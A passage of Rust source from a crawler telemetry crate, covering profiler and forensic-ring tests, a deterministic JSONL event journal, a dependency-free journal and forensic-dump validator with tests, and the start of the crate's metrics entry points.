                std::thread::sleep(std::time::Duration::from_millis(2));
            }
        }
        let snap = crate::registry().snapshot();
        let visit = snap.histograms.get("prof.visit_us").expect("visit histogram");
        let interp = snap.histograms.get("prof.jsengine.interp_us").expect("interp histogram");
        assert_eq!(visit.count, 1);
        assert_eq!(interp.count, 1);
        // Parent self time excludes the child's total.
        let visit_self = snap.counter("prof.self.visit");
        let interp_self = snap.counter("prof.self.jsengine.interp");
        assert!(visit_self < visit.sum, "self {visit_self} must exclude child of {}", visit.sum);
        assert!(interp_self > 0);
        assert!(collapsed_value("visit").is_some());
        assert!(collapsed_value("visit;jsengine.interp").is_some());
        let rendered = render_collapsed();
        assert!(rendered.contains("visit;jsengine.interp "), "{rendered}");
        crate::reset();
    }

    #[test]
    fn prof_metrics_never_reach_the_digest() {
        let _g = locked();
        crate::reset();
        crate::set_stats(true);
        let before = crate::registry().snapshot().digest();
        set_mode(Mode::On);
        {
            let _v = enter(&VISIT);
            let _d = enter(&DETECT_STATIC);
        }
        fold_builtin_counts(&[(std::sync::Arc::from("getTime"), 3)]);
        let snap = crate::registry().snapshot();
        assert_eq!(snap.digest(), before, "prof.* must be digest-invisible");
        assert!(snap.render().contains("prof."), "but still rendered:\n{}", snap.render());
        assert_eq!(snap.counter("prof.builtin.getTime"), 3);
        crate::reset();
    }

    #[test]
    fn ring_wraparound_accounts_for_drops_and_keeps_the_dump() {
        let _g = locked();
        crate::reset();
        let path = tmp_file("ring");
        set_forensic_path(Some(&path)).expect("sink");
        assert!(profiling(), "arming forensics must arm the profiler");
        let extra = 50;
        for i in 0..RING_CAPACITY + extra {
            ring_record("tick", format!("event {i}"));
        }
        {
            let _v = enter(&VISIT);
            dump_forensic("panic", &[("msg", "boom".to_string())]);
        }
        let text = std::fs::read_to_string(&path).expect("dump file");
        let summary = crate::validate::validate_forensic(&text).expect("parseable dump");
        assert_eq!(summary.dumps, 1);
        // The visit phase-enter breadcrumb also landed in the ring.
        assert_eq!(summary.ring_events, RING_CAPACITY);
        assert_eq!(summary.triggers[0].0, "panic");
        assert_eq!(summary.triggers[0].1, "visit");
        // Oldest events were overwritten, newest survived, drops counted.
        assert!(text.contains(&format!("\"dropped\":{}", extra + 1)), "{text}");
        assert!(!text.contains("event 0\""), "oldest event must be gone");
        assert!(text.contains(&format!("event {}", RING_CAPACITY + extra - 1)));
        let _ = std::fs::remove_file(&path);
        crate::reset();
    }

    #[test]
    fn emitted_events_feed_the_ring() {
        let _g = locked();
        crate::reset();
        let path = tmp_file("emit");
        set_forensic_path(Some(&path)).expect("sink");
        crate::emit(Event::new(0, "fault").attr("reason", "hang").attr("attempt", 2u32));
        dump_forensic("visit_failed", &[]);
        let text = std::fs::read_to_string(&path).expect("dump file");
        assert!(text.contains(r#""kind":"fault""#), "{text}");
        assert!(text.contains(r#""detail":"reason=hang attempt=2""#), "{text}");
        let _ = std::fs::remove_file(&path);
        crate::reset();
    }

    #[test]
    fn reset_disarms_everything() {
        let _g = locked();
        crate::reset();
        let path = tmp_file("reset");
        set_forensic_path(Some(&path)).expect("sink");
        set_mode(Mode::Collapsed);
        set_slow_visit_us(123);
        crate::reset();
        assert!(!profiling());
        assert!(!recorder_armed());
        assert_eq!(slow_visit_us(), 0);
        assert!(forensic_path().is_none());
        assert!(render_collapsed().is_empty());
        dump_forensic("ignored", &[]);
        assert_eq!(std::fs::read_to_string(&path).unwrap_or_default(), "");
        let _ = std::fs::remove_file(&path);
    }
}
