//! The JSONL event journal.
//!
//! One journal serves a whole run. It owns two kinds of scope:
//!
//! - the **crawl scope** (`"scope":"crawl"`): run-level events written
//!   directly by the coordinator thread. Its clock is a logical sequence
//!   number (one tick per event), which is trivially monotone and
//!   deterministic.
//! - **visit scopes** (`"scope":"visit:<idx>"`): events buffered on worker
//!   threads by [`crate::scope`] and handed to [`Journal::write_visit_events`]
//!   by the coordinator *in item order*, which is what makes the file
//!   byte-identical across worker counts.
//!
//! Wall-clock stamping (`wall_ms` field) is opt-in because it breaks
//! byte-for-byte reproducibility; it exists for humans reading a single
//! trace, not for comparisons.

use crate::event::{Event, SpanMark};
use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::path::Path;
use std::sync::Mutex;
use std::time::Instant;

enum Sink {
    File(BufWriter<File>),
    /// In-memory sink for tests and snapshot assertions.
    Buffer(Vec<u8>),
}

struct CrawlState {
    seq: u64,
    span_stack: Vec<u32>,
    next_span: u32,
}

pub struct Journal {
    sink: Mutex<Sink>,
    crawl: Mutex<CrawlState>,
    wall: bool,
    start: Instant,
}

impl Journal {
    fn new(sink: Sink, wall: bool) -> Journal {
        Journal {
            sink: Mutex::new(sink),
            crawl: Mutex::new(CrawlState { seq: 0, span_stack: Vec::new(), next_span: 1 }),
            wall,
            start: Instant::now(),
        }
    }

    /// Journal streaming to `path` (truncating any existing file).
    pub fn to_file(path: &Path, wall: bool) -> io::Result<Journal> {
        let f = File::create(path)?;
        Ok(Journal::new(Sink::File(BufWriter::new(f)), wall))
    }

    /// In-memory journal; read back with [`Journal::buffer_contents`].
    pub fn buffer(wall: bool) -> Journal {
        Journal::new(Sink::Buffer(Vec::new()), wall)
    }

    fn wall_ms(&self) -> Option<u64> {
        self.wall.then(|| self.start.elapsed().as_millis() as u64)
    }

    fn write_line(&self, line: &str) {
        let mut sink = self.sink.lock().unwrap();
        let res = match &mut *sink {
            Sink::File(w) => writeln!(w, "{line}"),
            Sink::Buffer(b) => writeln!(b, "{line}"),
        };
        // A full disk must not kill the crawl; telemetry is best-effort.
        let _ = res;
    }

    /// Write a crawl-scope event; `t` is overwritten with the next logical
    /// sequence number.
    pub fn crawl_event(&self, mut ev: Event) {
        let wall = self.wall_ms();
        let mut crawl = self.crawl.lock().unwrap();
        ev.t_ms = crawl.seq;
        crawl.seq += 1;
        let line = ev.render("crawl", wall);
        drop(crawl);
        self.write_line(&line);
    }

    /// Open a crawl-scope span; returns its id for [`Journal::crawl_span_close`].
    pub fn crawl_span_open(&self, name: &'static str) -> u32 {
        let wall = self.wall_ms();
        let mut crawl = self.crawl.lock().unwrap();
        let id = crawl.next_span;
        crawl.next_span += 1;
        let parent = crawl.span_stack.last().copied().unwrap_or(0);
        crawl.span_stack.push(id);
        let ev = Event {
            t_ms: crawl.seq,
            ev: "span_open",
            span: Some(SpanMark::Open { id, parent }),
            attrs: Vec::new(),
        }
        .attr("name", name);
        crawl.seq += 1;
        let line = ev.render("crawl", wall);
        drop(crawl);
        self.write_line(&line);
        id
    }

    /// Close a crawl-scope span, closing any later unclosed spans first so
    /// the journal always balances.
    pub fn crawl_span_close(&self, id: u32) {
        let wall = self.wall_ms();
        let mut crawl = self.crawl.lock().unwrap();
        if !crawl.span_stack.contains(&id) {
            return;
        }
        let mut lines = Vec::new();
        while let Some(top) = crawl.span_stack.pop() {
            let ev = Event {
                t_ms: crawl.seq,
                ev: "span_close",
                span: Some(SpanMark::Close { id: top }),
                attrs: Vec::new(),
            };
            crawl.seq += 1;
            lines.push(ev.render("crawl", wall));
            if top == id {
                break;
            }
        }
        drop(crawl);
        for line in lines {
            self.write_line(&line);
        }
    }

    /// Write a visit's buffered events under `scope:"visit:<idx>"`. Called
    /// by the coordinator in item order — never from worker threads.
    pub fn write_visit_events(&self, visit_idx: usize, events: &[Event]) {
        if events.is_empty() {
            return;
        }
        let wall = self.wall_ms();
        let scope = format!("visit:{visit_idx}");
        let mut out = String::with_capacity(events.len() * 96);
        for ev in events {
            out.push_str(&ev.render(&scope, wall));
            out.push('\n');
        }
        let mut sink = self.sink.lock().unwrap();
        let res = match &mut *sink {
            Sink::File(w) => w.write_all(out.as_bytes()),
            Sink::Buffer(b) => b.write_all(out.as_bytes()),
        };
        let _ = res;
    }

    /// Flush buffered output to the underlying file (no-op for buffers).
    pub fn flush(&self) {
        if let Sink::File(w) = &mut *self.sink.lock().unwrap() {
            let _ = w.flush();
        }
    }

    /// Contents of an in-memory journal; `None` for file-backed journals.
    pub fn buffer_contents(&self) -> Option<String> {
        match &*self.sink.lock().unwrap() {
            Sink::Buffer(b) => Some(String::from_utf8_lossy(b).into_owned()),
            Sink::File(_) => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn crawl_events_get_sequential_logical_clock() {
        let j = Journal::buffer(false);
        j.crawl_event(Event::new(999, "a"));
        j.crawl_event(Event::new(999, "b"));
        let text = j.buffer_contents().unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert!(lines[0].starts_with(r#"{"t":0,"scope":"crawl","ev":"a"}"#), "{}", lines[0]);
        assert!(lines[1].starts_with(r#"{"t":1,"scope":"crawl","ev":"b"}"#), "{}", lines[1]);
    }

    #[test]
    fn crawl_spans_nest_and_balance() {
        let j = Journal::buffer(false);
        let a = j.crawl_span_open("scan");
        let b = j.crawl_span_open("classify");
        j.crawl_span_close(b);
        j.crawl_span_close(a);
        let text = j.buffer_contents().unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 4);
        assert!(lines[0].contains(r#""span":1,"parent":0,"name":"scan""#));
        assert!(lines[1].contains(r#""span":2,"parent":1,"name":"classify""#));
        assert!(lines[2].contains(r#""ev":"span_close","span":2"#));
        assert!(lines[3].contains(r#""ev":"span_close","span":1"#));
    }

    #[test]
    fn close_out_of_order_closes_inner_first() {
        let j = Journal::buffer(false);
        let a = j.crawl_span_open("outer");
        let _b = j.crawl_span_open("inner");
        j.crawl_span_close(a);
        let text = j.buffer_contents().unwrap();
        assert_eq!(text.lines().count(), 4);
        let last = text.lines().last().unwrap();
        assert!(last.contains(r#""ev":"span_close","span":1"#), "{last}");
    }

    #[test]
    fn visit_events_render_with_scope_label() {
        let j = Journal::buffer(false);
        let evs = vec![Event::new(0, "fault").attr("kind", "hang"), Event::new(7, "retry")];
        j.write_visit_events(3, &evs);
        let text = j.buffer_contents().unwrap();
        assert!(text.contains(r#""scope":"visit:3","ev":"fault""#));
        assert!(text.contains(r#"{"t":7,"scope":"visit:3","ev":"retry"}"#));
    }

    #[test]
    fn wall_stamping_adds_field() {
        let j = Journal::buffer(true);
        j.crawl_event(Event::new(0, "x"));
        assert!(j.buffer_contents().unwrap().contains("\"wall_ms\":"));
    }
}
