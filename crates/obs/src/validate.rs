//! Journal schema validation — the check CI runs over a `GULLIBLE_TRACE`
//! file: every line parses as a flat JSON object, required keys are
//! present, span open/close events balance per scope, and each scope's
//! clock is monotone non-decreasing.
//!
//! The parser handles exactly the JSON subset the journal emits (flat
//! objects, string and integer values) so the crate stays dependency-free.

use std::collections::HashMap;

/// A parsed journal value: integer or string.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Val {
    Num(i64),
    Str(String),
}

impl Val {
    pub fn as_num(&self) -> Option<i64> {
        match self {
            Val::Num(n) => Some(*n),
            Val::Str(_) => None,
        }
    }

    pub fn as_str(&self) -> Option<&str> {
        match self {
            Val::Str(s) => Some(s),
            Val::Num(_) => None,
        }
    }
}

/// Parse one journal line as a flat JSON object, preserving key order.
pub fn parse_line(line: &str) -> Result<Vec<(String, Val)>, String> {
    let bytes = line.as_bytes();
    let mut pos = 0usize;

    fn skip_ws(bytes: &[u8], pos: &mut usize) {
        while *pos < bytes.len() && (bytes[*pos] as char).is_ascii_whitespace() {
            *pos += 1;
        }
    }

    fn expect(bytes: &[u8], pos: &mut usize, c: u8) -> Result<(), String> {
        if *pos < bytes.len() && bytes[*pos] == c {
            *pos += 1;
            Ok(())
        } else {
            Err(format!("expected '{}' at byte {}", c as char, *pos))
        }
    }

    fn parse_string(line: &str, bytes: &[u8], pos: &mut usize) -> Result<String, String> {
        expect(bytes, pos, b'"')?;
        let mut out = String::new();
        loop {
            let Some(&b) = bytes.get(*pos) else {
                return Err("unterminated string".into());
            };
            *pos += 1;
            match b {
                b'"' => return Ok(out),
                b'\\' => {
                    let Some(&esc) = bytes.get(*pos) else {
                        return Err("dangling escape".into());
                    };
                    *pos += 1;
                    match esc {
                        b'"' => out.push('"'),
                        b'\\' => out.push('\\'),
                        b'/' => out.push('/'),
                        b'n' => out.push('\n'),
                        b'r' => out.push('\r'),
                        b't' => out.push('\t'),
                        b'u' => {
                            let hex = line
                                .get(*pos..*pos + 4)
                                .ok_or_else(|| "truncated \\u escape".to_string())?;
                            let code = u32::from_str_radix(hex, 16)
                                .map_err(|_| format!("bad \\u escape '{hex}'"))?;
                            out.push(
                                char::from_u32(code)
                                    .ok_or_else(|| format!("invalid codepoint {code}"))?,
                            );
                            *pos += 4;
                        }
                        other => return Err(format!("unknown escape '\\{}'", other as char)),
                    }
                }
                _ => {
                    // Re-read from the original &str so multi-byte UTF-8
                    // characters survive; back up to the byte we consumed.
                    let start = *pos - 1;
                    let ch_len = utf8_len(b);
                    let s = line
                        .get(start..start + ch_len)
                        .ok_or_else(|| "invalid utf-8".to_string())?;
                    out.push_str(s);
                    *pos = start + ch_len;
                }
            }
        }
    }

    fn utf8_len(first: u8) -> usize {
        match first {
            0x00..=0x7f => 1,
            0xc0..=0xdf => 2,
            0xe0..=0xef => 3,
            _ => 4,
        }
    }

    fn parse_num(bytes: &[u8], pos: &mut usize) -> Result<i64, String> {
        let start = *pos;
        if bytes.get(*pos) == Some(&b'-') {
            *pos += 1;
        }
        while matches!(bytes.get(*pos), Some(b'0'..=b'9')) {
            *pos += 1;
        }
        if *pos == start {
            return Err(format!("expected number at byte {start}"));
        }
        std::str::from_utf8(&bytes[start..*pos])
            .unwrap()
            .parse::<i64>()
            .map_err(|e| format!("bad number: {e}"))
    }

    skip_ws(bytes, &mut pos);
    expect(bytes, &mut pos, b'{')?;
    let mut fields = Vec::new();
    skip_ws(bytes, &mut pos);
    if bytes.get(pos) == Some(&b'}') {
        pos += 1;
    } else {
        loop {
            skip_ws(bytes, &mut pos);
            let key = parse_string(line, bytes, &mut pos)?;
            skip_ws(bytes, &mut pos);
            expect(bytes, &mut pos, b':')?;
            skip_ws(bytes, &mut pos);
            let val = match bytes.get(pos) {
                Some(b'"') => Val::Str(parse_string(line, bytes, &mut pos)?),
                _ => Val::Num(parse_num(bytes, &mut pos)?),
            };
            fields.push((key, val));
            skip_ws(bytes, &mut pos);
            match bytes.get(pos) {
                Some(b',') => pos += 1,
                Some(b'}') => {
                    pos += 1;
                    break;
                }
                _ => return Err(format!("expected ',' or '}}' at byte {pos}")),
            }
        }
    }
    skip_ws(bytes, &mut pos);
    if pos != bytes.len() {
        return Err(format!("trailing garbage at byte {pos}"));
    }
    Ok(fields)
}

/// Summary of a validated journal.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ValidateSummary {
    pub lines: usize,
    pub scopes: usize,
    pub spans: usize,
}

/// Validate a whole journal. Returns an error naming the first offending
/// line (1-based) on any violation.
pub fn validate_journal(contents: &str) -> Result<ValidateSummary, String> {
    struct ScopeCheck {
        last_t: i64,
        span_stack: Vec<i64>,
    }
    let mut scopes: HashMap<String, ScopeCheck> = HashMap::new();
    let mut lines = 0usize;
    let mut spans = 0usize;

    for (i, raw) in contents.lines().enumerate() {
        let lineno = i + 1;
        if raw.trim().is_empty() {
            continue;
        }
        lines += 1;
        let fields = parse_line(raw).map_err(|e| format!("line {lineno}: {e}"))?;
        let get = |k: &str| fields.iter().find(|(key, _)| key == k).map(|(_, v)| v);

        let t = get("t")
            .and_then(Val::as_num)
            .ok_or_else(|| format!("line {lineno}: missing numeric 't'"))?;
        let scope = get("scope")
            .and_then(Val::as_str)
            .ok_or_else(|| format!("line {lineno}: missing string 'scope'"))?
            .to_string();
        let ev = get("ev")
            .and_then(Val::as_str)
            .ok_or_else(|| format!("line {lineno}: missing string 'ev'"))?
            .to_string();

        let check = scopes
            .entry(scope.clone())
            .or_insert(ScopeCheck { last_t: -1, span_stack: Vec::new() });
        if t < check.last_t {
            return Err(format!(
                "line {lineno}: clock went backwards in scope '{scope}' ({t} < {})",
                check.last_t
            ));
        }
        check.last_t = t;

        match ev.as_str() {
            "span_open" => {
                let id = get("span")
                    .and_then(Val::as_num)
                    .ok_or_else(|| format!("line {lineno}: span_open missing 'span'"))?;
                let parent = get("parent")
                    .and_then(Val::as_num)
                    .ok_or_else(|| format!("line {lineno}: span_open missing 'parent'"))?;
                let expected = check.span_stack.last().copied().unwrap_or(0);
                if parent != expected {
                    return Err(format!(
                        "line {lineno}: span {id} parent {parent} but enclosing span is {expected}"
                    ));
                }
                check.span_stack.push(id);
                spans += 1;
            }
            "span_close" => {
                let id = get("span")
                    .and_then(Val::as_num)
                    .ok_or_else(|| format!("line {lineno}: span_close missing 'span'"))?;
                match check.span_stack.pop() {
                    Some(top) if top == id => {}
                    Some(top) => {
                        return Err(format!(
                            "line {lineno}: span_close {id} but innermost open span is {top}"
                        ));
                    }
                    None => {
                        return Err(format!(
                            "line {lineno}: span_close {id} with no open span in scope '{scope}'"
                        ));
                    }
                }
            }
            _ => {}
        }
    }

    for (scope, check) in &scopes {
        if !check.span_stack.is_empty() {
            return Err(format!(
                "scope '{scope}' ends with {} unclosed span(s): {:?}",
                check.span_stack.len(),
                check.span_stack
            ));
        }
    }

    Ok(ValidateSummary { lines, scopes: scopes.len(), spans })
}

/// Summary of a validated forensic dump file.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ForensicSummary {
    /// Forensic header records.
    pub dumps: usize,
    /// Ring entries across all dumps.
    pub ring_events: usize,
    /// `(trigger, phase)` per dump, in file order.
    pub triggers: Vec<(String, String)>,
}

/// Validate a flight-recorder forensic dump file (`prof::dump_forensic`
/// output): every line is flat JSON; each `rec:"forensic"` header carries a
/// non-empty trigger and in-flight phase plus drop accounting; each header
/// is followed by exactly `ring_len` `rec:"forensic_ring"` lines with the
/// same dump id and strictly increasing sequence numbers.
pub fn validate_forensic(contents: &str) -> Result<ForensicSummary, String> {
    let mut summary = ForensicSummary::default();
    // (dump id, ring lines still expected, last seq seen)
    let mut open: Option<(i64, i64, Option<i64>)> = None;

    for (i, raw) in contents.lines().enumerate() {
        let lineno = i + 1;
        if raw.trim().is_empty() {
            continue;
        }
        let fields = parse_line(raw).map_err(|e| format!("line {lineno}: {e}"))?;
        let get = |k: &str| fields.iter().find(|(key, _)| key == k).map(|(_, v)| v);
        let rec = get("rec")
            .and_then(Val::as_str)
            .ok_or_else(|| format!("line {lineno}: missing string 'rec'"))?;

        match rec {
            "forensic" => {
                if let Some((id, want, _)) = open {
                    return Err(format!(
                        "line {lineno}: dump {id} still expects {want} ring line(s)"
                    ));
                }
                let id = get("id")
                    .and_then(Val::as_num)
                    .ok_or_else(|| format!("line {lineno}: forensic missing numeric 'id'"))?;
                let trigger = get("trigger")
                    .and_then(Val::as_str)
                    .filter(|s| !s.is_empty())
                    .ok_or_else(|| format!("line {lineno}: forensic missing 'trigger'"))?;
                let phase = get("phase")
                    .and_then(Val::as_str)
                    .filter(|s| !s.is_empty())
                    .ok_or_else(|| format!("line {lineno}: forensic missing 'phase'"))?;
                for key in ["wall_ms", "worker", "depth", "dropped"] {
                    get(key)
                        .and_then(Val::as_num)
                        .ok_or_else(|| format!("line {lineno}: forensic missing numeric '{key}'"))?;
                }
                let ring_len = get("ring_len")
                    .and_then(Val::as_num)
                    .ok_or_else(|| format!("line {lineno}: forensic missing numeric 'ring_len'"))?;
                summary.dumps += 1;
                summary.triggers.push((trigger.to_string(), phase.to_string()));
                if ring_len > 0 {
                    open = Some((id, ring_len, None));
                }
            }
            "forensic_ring" => {
                let Some((id, want, last_seq)) = open else {
                    return Err(format!("line {lineno}: ring line outside a dump"));
                };
                let line_id = get("id")
                    .and_then(Val::as_num)
                    .ok_or_else(|| format!("line {lineno}: ring missing numeric 'id'"))?;
                if line_id != id {
                    return Err(format!(
                        "line {lineno}: ring line for dump {line_id} inside dump {id}"
                    ));
                }
                let seq = get("seq")
                    .and_then(Val::as_num)
                    .ok_or_else(|| format!("line {lineno}: ring missing numeric 'seq'"))?;
                if let Some(last) = last_seq {
                    if seq <= last {
                        return Err(format!(
                            "line {lineno}: ring seq {seq} not after {last} in dump {id}"
                        ));
                    }
                }
                get("kind")
                    .and_then(Val::as_str)
                    .ok_or_else(|| format!("line {lineno}: ring missing string 'kind'"))?;
                get("detail")
                    .and_then(Val::as_str)
                    .ok_or_else(|| format!("line {lineno}: ring missing string 'detail'"))?;
                summary.ring_events += 1;
                open = (want > 1).then_some((id, want - 1, Some(seq)));
            }
            other => return Err(format!("line {lineno}: unknown record kind '{other}'")),
        }
    }
    if let Some((id, want, _)) = open {
        return Err(format!("file ends with dump {id} expecting {want} more ring line(s)"));
    }
    Ok(summary)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::Event;
    use crate::journal::Journal;

    #[test]
    fn parses_rendered_events_back() {
        let ev = Event::new(5, "fault").attr("kind", "hang").attr("msg", "a\"b\\c\nd");
        let fields = parse_line(&ev.render("visit:3", Some(12))).unwrap();
        assert_eq!(fields[0], ("t".into(), Val::Num(5)));
        assert_eq!(fields[1], ("scope".into(), Val::Str("visit:3".into())));
        assert_eq!(fields[2], ("ev".into(), Val::Str("fault".into())));
        assert_eq!(fields[4], ("msg".into(), Val::Str("a\"b\\c\nd".into())));
        assert_eq!(fields.last().unwrap(), &("wall_ms".into(), Val::Num(12)));
    }

    #[test]
    fn parses_unicode_and_u_escapes() {
        let fields = parse_line(r#"{"t":0,"scope":"crawl","ev":"x","msg":"héllo"}"#).unwrap();
        assert_eq!(fields[3].1, Val::Str("héllo".into()));
        let escaped = "{\"t\":0,\"scope\":\"crawl\",\"ev\":\"x\",\"msg\":\"AB\\u0001\"}";
        let fields = parse_line(escaped).unwrap();
        assert_eq!(fields[3].1, Val::Str("AB\u{1}".into()));
    }

    #[test]
    fn rejects_garbage() {
        assert!(parse_line("not json").is_err());
        assert!(parse_line(r#"{"t":1"#).is_err());
        assert!(parse_line(r#"{"t":1} extra"#).is_err());
        assert!(parse_line(r#"{"t":}"#).is_err());
    }

    #[test]
    fn validates_a_real_journal() {
        let j = Journal::buffer(false);
        let a = j.crawl_span_open("scan");
        j.crawl_event(Event::new(0, "note").attr("k", 1u64));
        j.crawl_span_close(a);
        j.write_visit_events(0, &[Event::new(0, "fault").attr("kind", "hang")]);
        let summary = validate_journal(&j.buffer_contents().unwrap()).unwrap();
        assert_eq!(summary, ValidateSummary { lines: 4, scopes: 2, spans: 1 });
    }

    #[test]
    fn catches_unbalanced_spans() {
        let text = r#"{"t":0,"scope":"crawl","ev":"span_open","span":1,"parent":0,"name":"x"}"#;
        let err = validate_journal(text).unwrap_err();
        assert!(err.contains("unclosed"), "{err}");
    }

    #[test]
    fn catches_mismatched_close() {
        let text = concat!(
            r#"{"t":0,"scope":"crawl","ev":"span_open","span":1,"parent":0,"name":"x"}"#,
            "\n",
            r#"{"t":1,"scope":"crawl","ev":"span_close","span":2}"#
        );
        assert!(validate_journal(text).is_err());
    }

    #[test]
    fn catches_clock_regression() {
        let text = concat!(
            r#"{"t":5,"scope":"visit:0","ev":"a"}"#,
            "\n",
            r#"{"t":4,"scope":"visit:0","ev":"b"}"#
        );
        let err = validate_journal(text).unwrap_err();
        assert!(err.contains("clock went backwards"), "{err}");
    }

    #[test]
    fn scopes_have_independent_clocks() {
        let text = concat!(
            r#"{"t":5,"scope":"visit:0","ev":"a"}"#,
            "\n",
            r#"{"t":0,"scope":"visit:1","ev":"b"}"#
        );
        assert!(validate_journal(text).is_ok());
    }
}

#[cfg(test)]
mod forensic_tests {
    use super::*;

    fn header(id: u64, ring_len: u64) -> String {
        format!(
            concat!(
                r#"{{"rec":"forensic","id":{},"wall_ms":12,"worker":0,"#,
                r#""trigger":"chaos_kill","phase":"visit;archive.flush","#,
                r#""depth":2,"dropped":0,"ring_len":{}}}"#
            ),
            id, ring_len
        )
    }

    fn ring(id: u64, seq: u64) -> String {
        format!(
            r#"{{"rec":"forensic_ring","id":{id},"seq":{seq},"kind":"page","detail":"u{seq}"}}"#
        )
    }

    #[test]
    fn accepts_well_formed_dumps() {
        let text = format!("{}\n{}\n{}\n{}\n", header(1, 2), ring(1, 5), ring(1, 9), header(2, 0));
        let s = validate_forensic(&text).unwrap();
        assert_eq!(s.dumps, 2);
        assert_eq!(s.ring_events, 2);
        assert_eq!(s.triggers[0], ("chaos_kill".to_string(), "visit;archive.flush".to_string()));
    }

    #[test]
    fn rejects_short_ring() {
        let text = format!("{}\n{}\n", header(1, 2), ring(1, 5));
        let err = validate_forensic(&text).unwrap_err();
        assert!(err.contains("expecting 1 more"), "{err}");
        // A new header before the ring finishes is also a hole.
        let text = format!("{}\n{}\n{}\n", header(1, 2), ring(1, 5), header(2, 0));
        assert!(validate_forensic(&text).is_err());
    }

    #[test]
    fn rejects_out_of_order_or_orphan_ring_lines() {
        let text = format!("{}\n{}\n{}\n", header(1, 2), ring(1, 9), ring(1, 5));
        let err = validate_forensic(&text).unwrap_err();
        assert!(err.contains("not after"), "{err}");
        assert!(validate_forensic(&ring(1, 0)).unwrap_err().contains("outside a dump"));
        let text = format!("{}\n{}\n", header(1, 1), ring(7, 0));
        assert!(validate_forensic(&text).unwrap_err().contains("inside dump"));
    }

    #[test]
    fn rejects_missing_fields() {
        let text = r#"{"rec":"forensic","id":1,"wall_ms":0,"worker":0,"trigger":"","phase":"p","depth":0,"dropped":0,"ring_len":0}"#;
        assert!(validate_forensic(text).unwrap_err().contains("trigger"));
        let text = r#"{"rec":"forensic","id":1,"trigger":"t","phase":"p"}"#;
        assert!(validate_forensic(text).is_err());
        assert!(validate_forensic(r#"{"rec":"mystery"}"#).unwrap_err().contains("unknown record"));
    }
}
