//! Crawl telemetry for the gullible pipeline: structured spans and a JSONL
//! event journal on the *simulated* crawl clock, a lock-free metrics
//! registry, and provenance reporting for every generated table.
//!
//! Design constraints, in priority order:
//!
//! 1. **Determinism.** A seeded crawl must produce byte-identical journals
//!    and metric snapshots regardless of worker count. Events from worker
//!    threads are buffered in per-thread [`scope`]s and written by the
//!    coordinator in item order; timestamps come from the simulated clock,
//!    never the wall clock (unless explicitly opted in).
//! 2. **Zero cost when off.** With neither `GULLIBLE_TRACE` nor
//!    `GULLIBLE_STATS` set, every instrumentation call is one relaxed
//!    atomic load and a branch.
//! 3. **Zero dependencies.** Rendering, hashing, and validation are all
//!    hand-rolled over `std`.
//!
//! The typical wiring (done by `bench::banner`): call [`set_stats`] and/or
//! [`install_journal`] at startup, instrumented code calls [`add`] /
//! [`observe`] / [`emit`] / [`span`] freely, and the binary prints
//! [`stats::render_summary`] + [`stats::provenance_footer`] at exit.

mod event;
mod journal;
mod metrics;
pub mod prof;
mod scope;
pub mod stats;
pub mod validate;

pub use event::{push_json_string, AttrVal, Event, SpanMark};
pub use journal::Journal;
pub use metrics::{
    bucket_of, Histogram, HistogramSnapshot, Registry, ShardedCounter, Snapshot,
    COUNTER_STRIPES, NONDETERMINISTIC_PREFIXES,
};
pub use scope::{
    begin_scope, clock_advance, clock_ms, decode_scope_metrics, end_scope, scope_active,
    scope_metrics_enabled, set_scope_metrics, take_scope_metrics, ScopeMetrics,
};

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, OnceLock, RwLock};
use std::time::Instant;

/// FNV-1a over bytes — the repo's standard cheap stable hash.
pub fn fnv1a(bytes: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in bytes {
        h ^= b as u64;
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

static TRACING: AtomicBool = AtomicBool::new(false);
static STATS: AtomicBool = AtomicBool::new(false);
/// `TRACING || STATS`, kept as its own flag so disabled-path calls load
/// exactly one atomic.
static ENABLED: AtomicBool = AtomicBool::new(false);

static JOURNAL: RwLock<Option<Arc<Journal>>> = RwLock::new(None);

fn global_registry() -> &'static Registry {
    static REGISTRY: OnceLock<Registry> = OnceLock::new();
    REGISTRY.get_or_init(Registry::new)
}

fn recompute_enabled() {
    ENABLED.store(
        TRACING.load(Ordering::Relaxed) || STATS.load(Ordering::Relaxed),
        Ordering::Relaxed,
    );
}

/// Is any telemetry live? One relaxed load — the disabled-path check.
#[inline]
pub fn enabled() -> bool {
    ENABLED.load(Ordering::Relaxed)
}

#[inline]
pub fn tracing_enabled() -> bool {
    TRACING.load(Ordering::Relaxed)
}

#[inline]
pub fn stats_enabled() -> bool {
    STATS.load(Ordering::Relaxed)
}

/// Turn metric collection on/off (`GULLIBLE_STATS=1`).
pub fn set_stats(on: bool) {
    STATS.store(on, Ordering::Relaxed);
    recompute_enabled();
}

/// The global metrics registry.
pub fn registry() -> &'static Registry {
    global_registry()
}

/// Install a journal and enable tracing; returns the shared handle.
pub fn install_journal(j: Journal) -> Arc<Journal> {
    let j = Arc::new(j);
    *JOURNAL.write().unwrap() = Some(j.clone());
    TRACING.store(true, Ordering::Relaxed);
    recompute_enabled();
    j
}

/// The installed journal, if tracing is live.
pub fn journal() -> Option<Arc<Journal>> {
    JOURNAL.read().unwrap().clone()
}

/// Remove the installed journal (flushing it) and disable tracing.
pub fn take_journal() -> Option<Arc<Journal>> {
    let j = JOURNAL.write().unwrap().take();
    TRACING.store(false, Ordering::Relaxed);
    recompute_enabled();
    if let Some(j) = &j {
        j.flush();
    }
    j
}

/// Bump a counter (no-op unless telemetry is enabled).
///
/// The handle for each name is cached per thread (keyed by the `'static`
/// string's address), so steady-state increments skip the registry's
/// `RwLock` entirely and land straight on the calling thread's counter
/// stripe. Handles stay valid across [`reset`] — reset zeroes counters in
/// place — so the cache never needs invalidating.
#[inline]
pub fn add(name: &'static str, delta: u64) {
    if !enabled() {
        return;
    }
    scope::record_add(name, delta);
    thread_local! {
        static HANDLES: std::cell::RefCell<Vec<(*const u8, Arc<ShardedCounter>)>> =
            const { std::cell::RefCell::new(Vec::new()) };
    }
    HANDLES.with(|cache| {
